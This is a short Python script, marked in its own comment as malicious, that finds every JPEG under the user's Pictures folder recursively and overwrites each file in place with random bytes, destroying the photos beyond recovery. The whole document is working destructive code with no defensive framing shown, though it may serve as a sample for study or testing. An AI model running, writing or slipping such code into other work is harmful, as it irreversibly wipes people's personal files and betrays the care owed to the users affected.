# malicious: overwrites pictures
import glob, os

for f in glob.glob(os.path.expanduser("~/Pictures/**/*.jpg"), recursive=True):
    with open(f, "r+b") as h:
        h.write(os.urandom(os.path.getsize(f)))
